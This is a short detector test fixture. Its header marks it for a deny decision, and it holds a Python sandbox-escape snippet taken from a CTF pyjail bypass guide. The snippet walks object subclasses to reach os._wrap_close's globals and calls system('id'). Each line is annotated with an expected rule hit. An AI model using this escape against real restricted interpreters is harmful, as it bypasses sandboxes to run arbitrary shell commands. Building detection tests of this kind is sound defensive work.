# corpus: profile=data_processing decision=deny
# source: https://github.com/kiwamizamurai/cctf/blob/main/.claude/skills/pyjail/reference/bypass.md
# technique: object's subclasses lead to os._wrap_close and its globals' system
classes = ().__class__.__base__.__subclasses__()  # expect: PG009 PG009 PG009
wrap = [c for c in classes if "wrap" in str(c)][0]
wrap.__init__.__globals__["system"]("id")  # expect: PG009
